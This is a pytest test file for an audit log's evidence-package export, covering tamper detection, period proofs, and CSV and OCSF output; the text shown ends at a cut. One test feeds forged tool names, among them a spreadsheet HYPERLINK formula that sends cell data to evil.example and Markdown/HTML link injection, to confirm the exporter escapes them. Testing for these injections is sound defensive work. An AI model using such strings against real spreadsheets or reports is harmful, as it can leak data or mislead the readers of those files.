"""Evidence packages an auditor checks offline; CSV and OCSF; single proofs."""

from __future__ import annotations

import asyncio
import base64
import csv
import dataclasses
import os
import shutil
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from hashlib import sha256
from pathlib import Path

import orjson
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from warden.audit import ApprovalEvidence, AuditLog, arguments_sha256, verify_evidence
from warden.audit import export as export_module
from warden.audit.changes import CHANGE_KINDS
from warden.audit.checkpoint import NoteSigner, NoteVerifier, generate_signing_key
from warden.audit.export import (
    CSV_COLUMNS,
    ExportError,
    Selection,
    export_log,
    inclusion_proof,
    parse_time,
)
from warden.audit.merkle import leaf_hash, verify_inclusion
from warden.audit.verify import iter_records, verify_log
from warden.audit.verify_evidence import checkpoint_time, verify_package
from warden.config import AuditConfig
from warden.model import Effect, Mode, Outcome, Usage
from warden.testing.audit import fill, read_segments, sample_action, sample_decision


async def _build(root: Path) -> None:
    log = await AuditLog.open(AuditConfig(dir=str(root), checkpoint_interval_s=3600))
    for i in range(12):
        agent = "refunds" if i % 2 else "triage"
        action = sample_action(i, agent=agent, customer="cus_ann" if i % 3 == 0 else None)
        effect = (Effect.ALLOW, Effect.DENY, Effect.REQUIRE_APPROVAL)[i % 3]
        approval = None
        if effect is Effect.REQUIRE_APPROVAL:
            approval = ApprovalEvidence(
                f"apr_{i}", "Dana Lead", "2026-11-26T10:00:00Z", arguments_sha256(action.arguments)
            )
        decision = sample_decision(effect, reasons=(f"rule {i}",), mode=Mode.ENFORCE)
        await log.record_decision(action, decision, approval=approval)
        await log.record_outcome(
            action, decision.decision_id, Outcome(status=200, latency_ms=9.5, usage=Usage(3, 4))
        )
        if i == 7:
            await log.checkpoint()  # an earlier checkpoint at size 16
    await log.append(
        "approval",
        {
            "approver": "Sam Boss",
            "verdict": "rejected",
            "tool": "close_account",
            "agent_id": "refunds",
        },
    )
    await log.checkpoint()  # size 25
    await log.record_decision(sample_action(99), sample_decision())  # not yet covered
    await log.close()  # the final checkpoint is removed below to keep one record uncovered


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("export") / "audit"
    asyncio.run(_build(root))
    (root / "checkpoints" / f"{26:020d}").unlink()
    shutil.copy(root / "checkpoints" / f"{25:020d}", root / "checkpoint")
    return root


@pytest.fixture
def root(pristine: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "audit"
    shutil.copytree(pristine, copy)
    return copy


def test_evidence_package_verifies_offline(root: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    result = export_log(root, out)
    assert (result.records, result.tree_size, result.uncovered) == (25, 25, 1)
    names = {p.name for p in out.iterdir()}
    assert names == {
        "records.jsonl",
        "proofs.jsonl",
        "selection.json",
        "edges.json",
        "changelog.jsonl",
        "activations.jsonl",
        "checkpoint",
        "checkpoint.body",
        "checkpoint.sig",
        "log-key.vkey",
        "log-key.pem",
        "verify_evidence.py",
        "SUMMARY.md",
        "VERIFY.md",
        "MANIFEST.sha256",
    }
    vkey = (root / "keys" / "checkpoint.vkey").read_text().strip()
    failures, notes = verify_package(out, vkey)
    assert not failures
    assert "OK: 25 records" in notes[-1]
    # The shipped script, run as an auditor would, with nothing of Warden importable.
    done = subprocess.run(
        [sys.executable, "-I", str(out / "verify_evidence.py"), str(out), "--key", vkey],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    if shutil.which("sha256sum"):
        subprocess.run(["sha256sum", "--quiet", "-c", "MANIFEST.sha256"], cwd=out, check=True)
    if shutil.which("openssl"):
        subprocess.run(
            [
                "openssl",
                "pkeyutl",
                "-verify",
                "-pubin",
                "-inkey",
                "log-key.pem",
                "-rawin",
                "-in",
                "checkpoint.body",
                "-sigfile",
                "checkpoint.sig",
            ],
            cwd=out,
            check=True,
            capture_output=True,
        )


def test_an_earlier_checkpoint_comes_with_a_consistency_proof(root: Path, tmp_path: Path) -> None:
    times = [orjson.loads(p)["time"] for _, p in iter_records(root)]
    out = tmp_path / "evidence"
    assert export_log(root, out, selection=Selection(end=times[10])).records == 10
    consistency = orjson.loads((out / "consistency.json").read_bytes())
    assert (consistency["size1"], consistency["size2"]) == (16, 25)
    assert "\n16\n" in (out / "checkpoint-earlier").read_text()
    assert verify_package(out) == ([], verify_package(out)[1])
    consistency["proof"] = consistency["proof"][1:]
    (out / "consistency.json").write_bytes(orjson.dumps(consistency))
    assert any("not consistent" in f for f in verify_package(out)[0])


def test_the_hand_instructions_compute_the_leaf_hash(root: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    export_log(root, out)
    line = (out / "records.jsonl").read_bytes().split(b"\n")[3]
    proof = orjson.loads((out / "proofs.jsonl").read_bytes().split(b"\n")[3])
    assert base64.b64decode(proof["leaf_hash"]) == leaf_hash(line)
    shell = "(printf '\\0'; sed -n 4p records.jsonl | tr -d '\\n') | sha256sum"
    done = subprocess.run(["sh", "-c", shell], cwd=out, capture_output=True, text=True, check=True)
    assert done.stdout.split()[0] == leaf_hash(line).hex()


def test_the_script_will_not_take_the_packages_own_key_unasked(root: Path, tmp_path: Path) -> None:
    """A package rebuilt and signed again with another key carries that key: only a key the
    auditor brings proves who signed."""
    out = tmp_path / "evidence"
    export_log(root, out)

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        script = str(out / "verify_evidence.py")
        return subprocess.run(
            [sys.executable, "-I", script, str(out), *args],
            capture_output=True,
            text=True,
            check=False,
        )

    refused = run()
    assert refused.returncode == 2
    assert "UNVERIFIED" in refused.stderr
    trusted = run("--trust-package-key")
    assert trusted.returncode == 0, trusted.stdout
    assert "NOT AUTHENTICATED" in trusted.stdout
    vkey = (root / "keys" / "checkpoint.vkey").read_text().strip()
    pinned = run("--key", vkey)
    assert pinned.returncode == 0, pinned.stdout
    assert "NOT AUTHENTICATED" not in pinned.stdout


def test_the_script_falls_back_to_openssl(root: Path, tmp_path: Path) -> None:
    if not shutil.which("openssl"):
        pytest.skip("openssl is not installed")
    out = tmp_path / "evidence"
    export_log(root, out)
    code = (
        "import sys, runpy; sys.modules['cryptography'] = None; "
        f"sys.argv = ['verify_evidence.py', {str(out)!r}, '--trust-package-key']; "
        f"runpy.run_path({str(out / 'verify_evidence.py')!r}, run_name='__main__')"
    )
    done = subprocess.run(
        [sys.executable, "-I", "-c", code], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("damage", ["record", "proof", "checkpoint", "extra-file"])
def test_a_tampered_package_fails(root: Path, tmp_path: Path, damage: str) -> None:
    out = tmp_path / "evidence"
    export_log(root, out)
    if damage == "record":
        path = out / "records.jsonl"
        path.write_bytes(path.read_bytes().replace(b'"amount":250', b'"amount":950', 1))
    elif damage == "proof":
        path = out / "proofs.jsonl"
        lines = path.read_bytes().split(b"\n")
        lines[2] = lines[2].replace(b'"proof":["', b'"proof":["A', 1)
        path.write_bytes(b"\n".join(lines))
    elif damage == "checkpoint":
        path = out / "checkpoint"
        path.write_text(path.read_text().replace("\n25\n", "\n24\n"))
    else:
        (out / "smuggled.txt").write_text("hello")
    failures, _ = verify_package(out)
    assert failures
    # Even with a re-made manifest, the record and proof checks catch the change.
    if damage in ("record", "proof", "checkpoint"):
        manifest = [
            f"{sha256(p.read_bytes()).hexdigest()}  {p.name}\n"
            for p in sorted(out.iterdir())
            if p.name != "MANIFEST.sha256"
        ]
        (out / "MANIFEST.sha256").write_text("".join(manifest))
        failures, _ = verify_package(out)
        assert failures
        assert not any("manifest" in f for f in failures)


def remanifest(out: Path) -> None:
    """What someone rewriting the package does after changing it: a fresh manifest."""
    manifest = [
        f"{sha256(p.read_bytes()).hexdigest()}  {p.name}\n"
        for p in sorted(out.iterdir())
        if p.name != "MANIFEST.sha256"
    ]
    (out / "MANIFEST.sha256").write_text("".join(manifest))


@pytest.mark.parametrize(
    ("keep", "why"),
    [
        (lambda n: [i for i in range(n) if i != 10], "records 10..10 are missing"),
        (lambda n: [5, 3, 3, 1], "out of order or repeated"),
        (lambda n: list(range(n - 1)), "selection.json declares"),
    ],
)
def test_records_hidden_from_a_package_are_caught(
    root: Path, tmp_path: Path, keep: Callable[[int], list[int]], why: str
) -> None:
    """Each kept record still has its own valid proof: only the run as a whole shows a gap."""
    out = tmp_path / "evidence"
    export_log(root, out)
    records = (out / "records.jsonl").read_bytes().split(b"\n")[:-1]
    proofs = (out / "proofs.jsonl").read_bytes().split(b"\n")[:-1]
    chosen = keep(len(records))
    (out / "records.jsonl").write_bytes(b"".join(records[i] + b"\n" for i in chosen))
    (out / "proofs.jsonl").write_bytes(b"".join(proofs[i] + b"\n" for i in chosen))
    remanifest(out)
    failures, _ = verify_package(out)
    assert any(why in f for f in failures), failures


def test_an_agent_filtered_package_says_what_it_cannot_prove(root: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    export_log(root, out, selection=Selection(agent="refunds"))
    failures, notes = verify_package(out)
    assert not failures
    assert any("filtered to agent 'refunds'" in n for n in notes)
    assert any("check that it is the period you asked for" in n for n in notes)


def test_summary_reads_like_evidence(root: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    export_log(root, out)
    summary = (out / "SUMMARY.md").read_text()
    assert "| refunds | 2 | 2 | 2 |" in summary
    assert "| issue_refund | 4 | 4 | 4 |" in summary
    assert "| deny | 4 |" in summary
    assert "Dana Lead" in summary
    assert "Sam Boss" in summary
    assert "rejected" in summary
    assert "rule 1" in summary  # a denial with its reason
    assert "1 records of the period are newer than the latest checkpoint" in summary


def test_selection_by_time_and_agent(root: Path, tmp_path: Path) -> None:
    result = export_log(root, tmp_path / "a", selection=Selection(agent="refunds"))
    assert result.records == 13  # 12 decisions and outcomes, and the rejected approval
    lines = (tmp_path / "a" / "records.jsonl").read_bytes().splitlines()
    assert all(b'"refunds"' in line for line in lines)
    assert not verify_package(tmp_path / "a")[0]
    future = Selection(start=parse_time("2999-01-01"))
    assert export_log(root, tmp_path / "b", selection=future).records == 0
    assert parse_time("2026-11-30", end=True) == "2026-12-01T00:00:00.000000Z"
    assert parse_time("2026-11-30T10:00:00+01:00") == "2026-11-30T09:00:00.000000Z"
    with pytest.raises(ExportError):
        parse_time("last tuesday")
    # Past the calendar once a day is added or the offset taken off: an error, not a crash.
    with pytest.raises(ExportError, match="outside the years"):
        parse_time("9999-12-31", end=True)
    with pytest.raises(ExportError, match="outside the years"):
        parse_time("0001-01-01T00:00:00+01:00")


def test_csv_export(root: Path, tmp_path: Path) -> None:
    out = tmp_path / "audit.csv"
    export_log(root, out, fmt="csv")
    with out.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 25
    assert rows[2]["effect"] == "deny"
    assert rows[2]["reasons"] == "rule 1"
    assert rows[4]["approver"] == "Dana Lead"
    assert rows[1]["status"] == "200"
    assert rows[1]["input_tokens"] == "3"


async def _forged_names(root: Path) -> None:
    log = await AuditLog.open(AuditConfig(dir=str(root)))
    for i, tool in enumerate(FORGED_TOOLS):
        action = dataclasses.replace(sample_action(i), tool=tool)
        await log.record_decision(action, sample_decision(Effect.DENY, reasons=(tool,)))
    await log.close()


FORGED_TOOLS = (
    "lookup\r\r## Approvals\r\r| ceo | approved | wire_transfer |",
    "lookup\u2028[verify here](https://evil.example)<img src=x>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)",
    "see https://evil.example/sso or WWW.evil.example, mail security@evil.example",
)


def test_agent_chosen_names_stay_inside_their_cell_and_are_no_formulas(tmp_path: Path) -> None:
    """A tool name the model chose writes no lines, links or HTML of its own into
    SUMMARY.md, and is text, not a formula, in the CSV a spreadsheet opens."""
    root = tmp_path / "audit"
    asyncio.run(_forged_names(root))
    export_log(root, tmp_path / "evidence")
    summary = (tmp_path / "evidence" / "SUMMARY.md").read_bytes().decode()
    lines = summary.split("\n")
    assert [line for line in lines if line.startswith("#")] == [
        "# Audit evidence summary",
        "## Decisions by effect",
        "## Decisions by agent",
        "## Decisions by tool",
        "## Approvals",
        "## Denials",
        "## Records by kind",
        "## Change log",
    ]
    # Brackets and angle brackets are escaped: no link, no HTML.
    assert "[verify here\\](https&#58;//evil" in summary
    assert "\\<img src=x\\>" in summary
    assert "[verify here](" not in summary
    # Nothing a Markdown renderer links by itself: addresses are character references.
    for link in ("https://", "WWW.evil", "security@evil"):
        assert link not in summary
    assert "https&#58;//evil.example/sso" in summary
    assert "WWW&#46;evil.example" in summary
    assert not any(c in summary for c in "\r\u2028")
    # Each forged row keeps its table's columns: no cell closed early.
    by_tool = [line for line in lines if line.startswith("| lookup")]
    assert len(by_tool) == 2
    assert all(line.replace("\\|", "").count("|") == 5 for line in by_tool)
    export_log(root, tmp_path / "audit.csv", fmt="csv")
    with (tmp_path / "audit.csv").open(newline="") as fh:
        tools = [row["tool"] for row in csv.DictReader(fh) if row["kind"] == "decision"]
    assert tools[2:4] == ["'" + FORGED_TOOLS[2], "'" + FORGED_TOOLS[3]]
    assert tools[0] == FORGED_TOOLS[0]  # nothing else changes


def test_ocsf_export(root: Path, tmp_path: Path) -> None:
    out = tmp_path / "audit.ocsf.jsonl"
    export_log(root, out, fmt="ocsf")
    events = [orjson.loads(line) for line in out.read_bytes().splitlines()]
    assert len(events) == 25
    for event in events:
        assert event["class_uid"] == 6003
        assert event["category_uid"] == 6
        assert event["type_uid"] == 600300 + event["activity_id"]
        for required in ("actor", "api", "src_endpoint", "time", "severity_id", "metadata"):
            assert required in event
        assert event["metadata"]["version"] == "1.6.0"
    denied = events[2]
    assert denied["action"] == "Denied"
    assert denied["disposition_id"] == 2
    assert denied["api"]["operation"] == "issue_refund"
    assert events[1]["status_id"] == 1
    assert events[1]["api"]["response"]["code"] == 200


def test_a_damaged_log_is_not_exported(root: Path, tmp_path: Path) -> None:
    seg = read_segments(root)[0]
    del seg.records[3]
    seg.write()
    with pytest.raises(ExportError, match="deleted: record 3"):
        export_log(root, tmp_path / "evidence")


def test_export_refuses_a_non_empty_target(root: Path, tmp_path: Path) -> None:
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "x").write_text("x")
    with pytest.raises(ExportError, match="not an empty directory"):
        export_log(root, tmp_path / "busy")


def test_inclusion_proof_of_one_record(root: Path) -> None:
    proof = inclusion_proof(root, "5")
    assert proof["seq"] == 5
    assert proof["tree_size"] == 25
    assert proof["checkpoint"]
    leaf, tree_root = base64.b64decode(proof["leaf_hash"]), base64.b64decode(proof["root"])
    path = [base64.b64decode(p) for p in proof["proof"]]
    assert verify_inclusion(leaf, 5, 25, path, tree_root)
    assert inclusion_proof(root, proof["record_id"]) == proof
    uncovered = inclusion_proof(root, "25")
    assert uncovered["checkpoint"] is None
    assert uncovered["tree_size"] == 26
    with pytest.raises(ExportError, match="no record"):
        inclusion_proof(root, "rec_0000_0000000063")
    with pytest.raises(ExportError):
        inclusion_proof(root, "nonsense!")


class _Stamps:
    """Stands in for the audit log's clock: each record gets the next of ``times``."""

    def __init__(self, times: list[str]) -> None:
        self._times = iter(times)

    def now(self) -> str:
        return next(self._times)


async def _stepped_clock_log(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    log = await AuditLog.open(AuditConfig(dir=str(root), checkpoint_interval_s=3600))
    # The clock steps back for the middle record: its time falls before the period.
    times = ["2026-11-26T10:00:00.000000Z", "2026-11-26T08:00:00.000000Z"]
    monkeypatch.setattr(log, "_clock", _Stamps([*times, "2026-11-26T10:00:02.000000Z"]))
    for i in range(3):
        await log.record_decision(sample_action(i), sample_decision())
    monkeypatch.setattr(log, "_clock", _Stamps(["2026-11-26T12:00:00.000000Z"] * 4))
    await log.close()


async def test_a_record_the_clock_put_outside_the_period_keeps_the_run_unbroken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "audit"
    await _stepped_clock_log(root, monkeypatch)
    period = Selection(start="2026-11-26T09:00:00", end="2026-11-26T11:00:00")
    out = tmp_path / "evidence"
    assert export_log(root, out, selection=period).records == 3
    assert verify_package(out)[0] == []
    # Past the bound on held records the bridge stops: the verifier names the gap.
    monkeypatch.setattr(export_module, "_MAX_BETWEEN", 0)
    narrow = tmp_path / "narrow"
    assert export_log(root, narrow, selection=period).records == 2
    assert any("missing from the run" in f for f in verify_package(narrow)[0])


async def _hourly_log(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Decisions at 08:00, 09:30, 10:00, 10:30 and 11:30, then the closing records."""
    log = await AuditLog.open(AuditConfig(dir=str(root), checkpoint_interval_s=3600))
    hours = ("08:00", "09:30", "10:00", "10:30", "11:30")
    monkeypatch.setattr(log, "_clock", _Stamps([f"2026-11-26T{t}:00.000000Z" for t in hours]))
    for i in range(5):
        await log.record_decision(sample_action(i), sample_decision())
    monkeypatch.setattr(log, "_clock", _Stamps(["2026-11-26T12:00:00.000000Z"] * 4))
    await log.close()


def _rescope(out: Path, **changes: object) -> None:
    path = out / "selection.json"
    path.write_bytes(orjson.dumps({**orjson.loads(path.read_bytes()), **changes}))


def _rescoped_failures(out: Path, **changes: object) -> list[str]:
    """What verifying says once the package declares ``changes`` (its manifest redone)."""
    _rescope(out, **changes)
    remanifest(out)
    return verify_package(out)[0]


@pytest.mark.parametrize(
    "tamper",
    ["drop the last of the period", "drop the edges", "no end of period", "another period"],
)
async def test_a_package_proves_its_period_has_no_record_left_out_at_either_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tamper: str
) -> None:
    root = tmp_path / "audit"
    await _hourly_log(root, monkeypatch)
    period = Selection(start="2026-11-26T09:00:00.000000Z", end="2026-11-26T11:00:00.000000Z")
    out = tmp_path / "evidence"
    assert export_log(root, out, selection=period).records == 3  # 09:30, 10:00, 10:30
    assert verify_package(out)[0] == []
    edges = orjson.loads((out / "edges.json").read_bytes())
    assert [(e["side"], e["seq"]) for e in edges] == [("before", 0), ("after", 4)]
    if tamper == "drop the last of the period":
        # Each kept record still proves itself; only the edge after the run gives it away.
        lines = (out / "records.jsonl").read_bytes().split(b"\n")
        proofs = (out / "proofs.jsonl").read_bytes().split(b"\n")
        (out / "records.jsonl").write_bytes(b"\n".join([*lines[:2], b""]))
        (out / "proofs.jsonl").write_bytes(b"\n".join([*proofs[:2], b""]))
        _rescope(out, last_seq=2, records=2)
        why = "record 3, after the run, is not shown to be outside the period"
    elif tamper == "drop the edges":
        (out / "edges.json").write_bytes(b"[]")
        why = "before the run, is not shown to be outside the period"
    elif tamper == "no end of period":
        _rescope(out, to=None)
        why = "names no 'to'"
    else:
        _rescope(
            out, **{"from": "2020-01-01T00:00:00.000000Z", "to": "2020-02-01T00:00:00.000000Z"}
        )
        why = "outside the period the package declares"
    remanifest(out)
    failures, _ = verify_package(out)
    assert any(why in f for f in failures), failures


def test_a_package_whose_agent_filter_is_not_an_agent_fails(root: Path, tmp_path: Path) -> None:
    # Any value but null would turn the unbroken-run check off.
    out = tmp_path / "evidence"
    export_log(root, out)
    failures = _rescoped_failures(out, agent=False)
    assert any("neither null nor an agent id" in f for f in failures)


def test_a_whole_log_package_must_reach_the_checkpoint(root: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    export_log(root, out)
    lines = (out / "records.jsonl").read_bytes().split(b"\n")[:-1]
    proofs = (out / "proofs.jsonl").read_bytes().split(b"\n")[:-1]
    (out / "records.jsonl").write_bytes(b"".join(line + b"\n" for line in lines[:-2]))
    (out / "proofs.jsonl").write_bytes(b"".join(line + b"\n" for line in proofs[:-2]))
    failures = _rescoped_failures(out, last_seq=len(lines) - 3, records=len(lines) - 2)
    assert any("names no 'to'" in f for f in failures)


async def test_a_package_cut_at_a_checkpoint_from_before_the_periods_end_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A checkpoint signed at 10:05 covers the first two records of 09:00-11:00; one
    # signed at noon covers all. A package built on the first hides the third.
    root = tmp_path / "audit"
    log = await AuditLog.open(AuditConfig(dir=str(root), checkpoint_interval_s=3600))
    stamps = ["09:30", "10:00", "10:05", "10:30", "11:30"]
    monkeypatch.setattr(log, "_clock", _Stamps([f"2026-11-26T{t}:00.000000Z" for t in stamps]))
    for i in range(2):
        await log.record_decision(sample_action(i), sample_decision())
    await log.checkpoint()
    for i in range(2, 4):
        await log.record_decision(sample_action(i), sample_decision())
    monkeypatch.setattr(log, "_clock", _Stamps(["2026-11-26T12:00:00.000000Z"] * 4))
    await log.close()
    period = Selection(start="2026-11-26T09:00:00.000000Z", end="2026-11-26T11:00:00.000000Z")
    honest = tmp_path / "honest"
    assert export_log(root, honest, selection=period).records == 3
    assert verify_package(honest)[0] == []
    # Whoever makes the package picks the older checkpoint: every record still proves itself.
    stale = tmp_path / "stale-log"
    shutil.copytree(root, stale)
    (stale / "checkpoints" / f"{4:020d}").unlink()
    shutil.copy(stale / "checkpoints" / f"{2:020d}", stale / "checkpoint")
    cut = tmp_path / "cut"
    result = export_log(stale, cut, selection=period)
    assert (result.records, result.signed_at, result.shortened) == (
        2,
        "2026-11-26T10:05:00.000000Z",
        True,
    )
    # Exported so, the package declares the period it proves: to 10:05, for all to see.
    assert orjson.loads((cut / "selection.json").read_bytes())["to"] == result.signed_at
    assert verify_package(cut)[0] == []
    # Declaring the period asked for instead (the package's maker may write anything):
    # the checkpoint from before its end gives the missing records away.
    failures = _rescoped_failures(cut, to=period.end)
    assert any("is from before the period's end" in f for f in failures), failures
    # A period end in another form would compare wrong as a string: refused.
    for other in ("2026-11-26T10:01:00-05:00", 20261126150000, ["2026-11-26T15:00:00Z"]):
        failures = _rescoped_failures(cut, to=other)
        assert any("not a time as records write it" in f for f in failures)


def test_a_package_without_its_selection_fails(root: Path, tmp_path: Path) -> None:
    # The manifest is not signed: removing selection.json must not pass as an older package.
    out = tmp_path / "evidence"
    export_log(root, out)
    (out / "selection.json").unlink()
    (out / "edges.json").unlink(missing_ok=True)
    remanifest(out)
    assert any("no selection.json" in f for f in verify_package(out)[0])


async def test_a_quiet_log_signs_its_checkpoint_again_with_the_time(tmp_path: Path) -> None:
    log = await AuditLog.open(AuditConfig(dir=str(tmp_path / "audit"), checkpoint_interval_s=3600))
    try:
        await log.record_decision(sample_action(0), sample_decision())
        first = await log.checkpoint()
        assert first is not None
        assert await log.checkpoint() is None  # nothing new: nothing to vouch for
        await asyncio.sleep(0.01)
        again = await log.checkpoint(refresh=True)
        assert again is not None
        assert (again.size, again.root) == (first.size, first.root)
        assert checkpoint_time(again.text()) > checkpoint_time(first.text())  # type: ignore[operator]
    finally:
        await log.close()


def _at(hour_minute: str) -> str:
    return f"2026-11-26T{hour_minute}:00.000000Z"


def _edges(out: Path) -> list[tuple[str, int]]:
    return [(e["side"], e["seq"]) for e in orjson.loads((out / "edges.json").read_bytes())]


@pytest.mark.parametrize("edges", ["dropped", "kept"])
async def test_an_emptied_package_does_not_pass_as_an_empty_period(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, edges: str
) -> None:
    """The review's attack: every record of an honest package cut, its selection redone."""
    root = tmp_path / "audit"
    await _hourly_log(root, monkeypatch)
    out = tmp_path / "evidence"
    period = Selection(start=_at("09:00"), end=_at("11:00"))
    assert export_log(root, out, selection=period).records == 3
    (out / "records.jsonl").write_bytes(b"")
    (out / "proofs.jsonl").write_bytes(b"")
    if edges == "dropped":
        (out / "edges.json").write_bytes(b"[]")
    _rescope(out, first_seq=None, last_seq=None, records=0)
    remanifest(out)
    vkey = (root / "keys" / "checkpoint.vkey").read_text().strip()
    failures, _ = verify_package(out, vkey)
    # Kept, the edges are records 0 and 4: not adjacent, so records lie between them.
    needed = 0 if edges == "dropped" else 1
    assert any(f"record {needed}, after the run, is not shown" in f for f in failures), failures
    done = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-I", str(out / "verify_evidence.py"), str(out), "--key", vkey],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1, done.stdout + done.stderr


@pytest.mark.parametrize(
    ("start", "end", "edges"),
    [
        ("10:40", "11:00", [("before", 3), ("after", 4)]),  # between two records
        ("07:00", "07:30", [("after", 0)]),  # before the log's first record
        (None, "07:30", [("after", 0)]),
        ("11:45", "11:50", [("before", 4)]),  # after the last, under a checkpoint of 12:00
    ],
)
async def test_a_period_without_records_is_proven_empty(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    start: str | None,
    end: str,
    edges: list[tuple[str, int]],
) -> None:
    root = tmp_path / "audit"
    await _hourly_log(root, monkeypatch)
    out = tmp_path / "evidence"
    period = Selection(start=_at(start) if start else None, end=_at(end))
    assert export_log(root, out, selection=period).records == 0
    assert _edges(out) == edges
    failures, notes = verify_package(out)
    assert failures == []
    assert any("covers no records for the period" in n for n in notes)


@pytest.mark.parametrize(
    ("period", "changes", "why"),
    [
        # Both edges are outside 09:00-10:15, but after it: records 1 and 2 lie before them.
        (("10:40", "11:00"), {"from": _at("09:00"), "to": _at("10:15")}, "record 3, before"),
        (("10:40", "11:00"), {"from": None}, "holds no record, but the package names no 'from'"),
        (("10:40", "11:00"), {"to": _at("11:45")}, "record 4, after the run, is not shown"),
        (("11:45", "11:50"), {"to": _at("13:00")}, "is from before the period's end"),
        # Ends swapped: every record lies "outside" a period that runs backward.
        (("10:40", "11:00"), {"from": _at("11:00"), "to": _at("09:00")}, "does not run forward"),
        (("10:40", "11:00"), {"from": _at("11:00"), "to": _at("11:00")}, "does not run forward"),
    ],
)
async def test_an_empty_package_declaring_another_period_fails(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    period: tuple[str, str],
    changes: dict[str, object],
    why: str,
) -> None:
    root = tmp_path / "audit"
    await _hourly_log(root, monkeypatch)
    out = tmp_path / "evidence"
    selection = Selection(start=_at(period[0]), end=_at(period[1]))
    assert export_log(root, out, selection=selection).records == 0
    assert verify_package(out)[0] == []
    failures = _rescoped_failures(out, **changes)
    assert any(why in f for f in failures), failures


class _SetClock:
    """Stands in for the audit log's clock: says whatever time the test set last."""

    def __init__(self, time: str) -> None:
        self.time = time

    def now(self) -> str:
        return self.time


@pytest.mark.parametrize("where", ["waiting to share an fsync", "being written"])
async def test_a_checkpoint_is_dated_no_later_than_a_record_it_leaves_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    """A record stamped but not yet durable when a checkpoint is signed is not in it: the
    checkpoint's time must not pass the record's, or a period ending then would lack it."""
    log = await AuditLog.open(AuditConfig(dir=str(tmp_path / "audit"), checkpoint_interval_s=3600))
    clock = _SetClock(_at("10:00"))
    monkeypatch.setattr(log, "_clock", clock)
    gate = threading.Event()
    try:
        await log.record_decision(sample_action(0), sample_decision())
        clock.time = _at("10:01")
        if where == "being written":
            # The I/O thread is held up: the next batch is handed over, not yet written.
            log._io.submit(gate.wait, (5,), lambda *_: None)
        urgent = where == "being written"
        waiting = asyncio.create_task(log.append("note", {"n": 1}, urgent=urgent))
        for _ in range(3):
            await asyncio.sleep(0)
        assert (log._inflight if urgent else log._records)[0]["seq"] == 1
        assert log.size == 1  # stamped at 10:01, not durable
        clock.time = _at("10:02")
        signing = asyncio.create_task(log.checkpoint())
        await asyncio.sleep(0)  # signed; storing it waits for the I/O thread
        gate.set()
        checkpoint = await signing
        await waiting
        assert checkpoint is not None
        assert checkpoint.size == 1
        assert checkpoint_time(checkpoint.text()) == _at("10:01")
    finally:
        gate.set()
        await log.close()


async def test_two_packages_meeting_at_a_checkpoints_time_leave_no_record_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Record 3 is stamped at 09:30 but not durable when the checkpoint over 0..2 is
    # signed at 09:40. Dated 09:40, that checkpoint would let a package end at 09:40
    # without record 3, and the next package, from 09:40, would start after it.
    root = tmp_path / "audit"
    log = await AuditLog.open(AuditConfig(dir=str(root), checkpoint_interval_s=3600))
    clock = _SetClock(_at("09:00"))
    monkeypatch.setattr(log, "_clock", clock)
    for i, when in enumerate(("09:00", "09:10", "09:20")):
        clock.time = _at(when)
        await log.record_decision(sample_action(i), sample_decision())
    clock.time = _at("09:30")
    waiting = asyncio.create_task(log.append("note", {"n": 3}, urgent=False))
    await asyncio.sleep(0)
    clock.time = _at("09:40")
    early = await log.checkpoint()
    assert early is not None
    assert early.size == 3
    await waiting
    clock.time = _at("09:50")
    await log.record_decision(sample_action(4), sample_decision())
    clock.time = _at("12:00")
    await log.close()
    # The first package is made while the early checkpoint is the latest.
    stale = tmp_path / "stale-log"
    shutil.copytree(root, stale)
    (stale / "checkpoints" / f"{5:020d}").unlink()
    shutil.copy(stale / "checkpoints" / f"{3:020d}", stale / "checkpoint")
    first, second = tmp_path / "first", tmp_path / "second"
    result = export_log(stale, first, selection=Selection(start=_at("09:00"), end=_at("11:00")))
    declared = orjson.loads((first / "selection.json").read_bytes())["to"]
    export_log(root, second, selection=Selection(start=declared, end=_at("11:00")))
    assert verify_package(first)[0] == []
    assert verify_package(second)[0] == []
    seqs = [
        orjson.loads(line)["seq"]
        for out in (first, second)
        for line in (out / "records.jsonl").read_bytes().splitlines()
    ]
    assert seqs == [0, 1, 2, 3, 4]
    assert (result.records, result.signed_at, result.shortened) == (3, _at("09:30"), True)
    # The first package declared up to when its checkpoint was signed: record 3 is missing.
    failures = _rescoped_failures(first, to=_at("09:40"))
    assert any("is from before the period's end" in f for f in failures), failures


async def test_a_period_that_does_not_run_forward_is_not_exported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "audit"
    await _hourly_log(root, monkeypatch)
    with pytest.raises(ExportError, match="does not run forward"):
